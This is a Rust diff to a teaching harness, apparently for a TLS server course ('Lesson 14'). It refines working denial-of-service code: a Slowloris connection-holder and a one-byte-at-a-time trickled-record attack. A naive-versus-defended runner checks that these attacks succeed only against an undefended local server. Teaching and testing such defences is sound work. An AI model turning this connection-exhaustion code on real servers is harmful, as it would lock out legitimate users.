@@ -108,12 +108,14 @@ pub struct Server {
 /// A binary next to this one, in `target/<profile>/examples/`.
 pub fn sibling(name: &str) -> Result<PathBuf, String> {
     let exe = std::env::current_exe().map_err(|e| e.to_string())?;
-    let path = exe
-        .parent()
-        .ok_or("no directory for this binary")?
-        .join(name);
+    let dir = exe.parent().ok_or("no directory for this binary")?;
+    // Examples sit side by side; a test binary sits in `deps/` next to them.
+    let path = dir.join(name);
+    let from_test = dir.join("../examples").join(name);
     if path.exists() {
         Ok(path)
+    } else if from_test.exists() {
+        Ok(from_test)
     } else {
         Err(format!(
             "{} is missing: build it first with `cargo build --examples` \
@@ -440,13 +442,19 @@ impl Attack {
     }
 
     /// Slowloris: opens `hold` connections that never send a byte, then
-    /// keeps opening `per_second` more, closing its oldest so as to hold
-    /// `hold` at a time.
+    /// keeps opening `per_second` more, holding `hold` at a time: to make
+    /// room it lets go first of those the server has closed, then of its
+    /// oldest.
     pub fn silent(addr: SocketAddr, hold: usize, per_second: u32) -> Self {
         Self::spawn(move |stop, opened| {
             let mut held = VecDeque::with_capacity(hold + 1);
+            let open_silent = || {
+                let s = open(addr)?;
+                s.set_nonblocking(true).ok()?;
+                Some(s)
+            };
             while held.len() < hold && !stop.load(Ordering::Relaxed) {
-                if let Some(s) = open(addr) {
+                if let Some(s) = open_silent() {
                     held.push_back(s);
                     opened.fetch_add(1, Ordering::Relaxed);
                 }
@@ -454,12 +462,10 @@ impl Attack {
             let every = Duration::from_secs(1) / per_second.max(1);
             let mut next = Instant::now();
             while !stop.load(Ordering::Relaxed) {
-                if let Some(s) = open(addr) {
+                if let Some(s) = open_silent() {
                     held.push_back(s);
                     opened.fetch_add(1, Ordering::Relaxed);
-                    if held.len() > hold {
-                        held.pop_front();
-                    }
+                    make_room(&mut held, hold);
                 }
                 next += every;
                 std::thread::sleep(next.saturating_duration_since(Instant::now()));
@@ -514,9 +520,12 @@ impl Attack {
                     opened.fetch_add(1, Ordering::Relaxed);
                 }
             }
-            // One byte each, every `every`: a record header that never ends.
+            // One byte each, every `every`: a record that never ends.
+            let mut sent = 0;
             while !stop.load(Ordering::Relaxed) {
-                held.retain_mut(|s| s.write_all(&[0]).is_ok() && !closed(s));
+                let byte = trickled_byte(sent);
+                sent += 1;
+                held.retain_mut(|s| s.write_all(&[byte]).is_ok() && !closed(s));
                 still_open.store(held.len(), Ordering::Relaxed);
                 let until = Instant::now() + every;
                 while Instant::now() < until && !stop.load(Ordering::Relaxed) {
@@ -564,6 +573,30 @@ impl Attack {
                 .filter_map(|c| c.get_ref().try_clone().ok())
                 .collect()
         })
+    }
+}
+
+/// The `n`th byte of a trickled record: a valid header announcing a
+/// 64-byte body (so the server waits for it rather than refusing the
+/// header), then the body.
+pub fn trickled_byte(n: usize) -> u8 {
+    match n {
+        0 => 0x00,
+        1 => 0x40,
+        _ => 0x00,
+    }
+}
+
+/// Slowloris's bookkeeping: keeps `hold` connections, replacing first
+/// those the server has already closed.
+fn make_room(held: &mut VecDeque<TcpStream>, hold: usize) {
+    while held.len() > hold {
+        // The oldest the server closed, looking at a few dozen at most.
+        let gone = held.iter_mut().take(100).position(closed);
+        match gone {
+            Some(at) => drop(held.remove(at)),
+            None => drop(held.pop_front()),
+        }
     }
 }
 
@@ -626,4 +659,102 @@ pub fn threads_settle(pid: u32, at_most: u64, within: Duration) -> u64 {
 /// Where the manifest is, for messages.
 pub fn manifest_dir() -> &'static Path {
     Path::new(env!("CARGO_MANIFEST_DIR"))
+}
+
+// ---- Naive against defended ---------------------------------------------
+
+/// What one run of an attack example saw.
+pub struct Outcome {
+    /// What happened, line by line.
+    pub lines: Vec<String>,
+    /// True if the attack succeeded: honest clients locked out, or the
+    /// attacker's connection outlived what the lesson says it should.
+    pub attack_won: bool,
+}
+
+/// The server an attack example besieges: `--server NAME` on its command
+/// line, `11-mtls-server` by default.
+pub fn server_from_args() -> String {
+    let args: Vec<String> = std::env::args().collect();
+    args.iter()
+        .position(|a| a == "--server")
+        .and_then(|i| args.get(i + 1))
+        .cloned()
+        .unwrap_or_else(|| "11-mtls-server".into())
+}
+
+/// Runs `attack` against a fresh server started with `naive` flags, then
+/// against one with `defended` flags, prints both, and exits 0 when the
+/// attack wins against the first and loses against the second, as Lesson
+/// 14 teaches.
+pub fn naive_and_defended(
+    title: &str,
+    story: &str,
+    naive: &[&str],
+    defended: &[&str],
+    attack: impl Fn(&Server, &Keys) -> Result<Outcome, String>,
+) -> std::process::ExitCode {
+    let binary = server_from_args();
+    println!("{title}");
+    println!("{story}");
+    let mut results = Vec::new();
+    for (label, flags) in [("naive", naive), ("defended", defended)] {
+        println!();
+        println!(
+            "{} ({label})",
+            [binary.as_str()]
+                .into_iter()
+                .chain(flags.iter().copied())
+                .collect::<Vec<_>>()
+                .join(" ")
+        );
+        let outcome = Keys::new(label).and_then(|keys| {
+            let mut server = Server::start(
+                &binary,
+                &keys,
+                Binding::InsecureLesson11,
+                Stdout::Read,
+                None,
+                flags,
+            )?;
+            let outcome = attack(&server, &keys)?;
+            if !server.healthy() {
+                return Err("the server went down or panicked".into());
+            }
+            Ok(outcome)
+        });
+        match outcome {
+            Ok(outcome) => {
+                for line in &outcome.lines {
+                    println!("   {line}");
+                }
+                println!(
+                    "   => {}",
+                    if outcome.attack_won {
+                        "the attack wins"
+                    } else {
+                        "the attack fails"
+                    }
+                );
+                results.push(Some(outcome.attack_won));
+            }
+            Err(e) => {
+                println!("   could not run: {e}");
+                results.push(None);
+            }
+        }
+    }
+    println!();
+    if results == [Some(true), Some(false)] {
+        println!(
+            "verdict: the attack wins against the naive server and fails against the defended one. As Lesson 14 teaches."
+        );
+        std::process::ExitCode::SUCCESS
+    } else {
+        println!(
+            "verdict: NOT what Lesson 14 teaches (naive: {:?}, defended: {:?})",
+            results[0], results[1]
+        );
+        std::process::ExitCode::FAILURE
+    }
 }
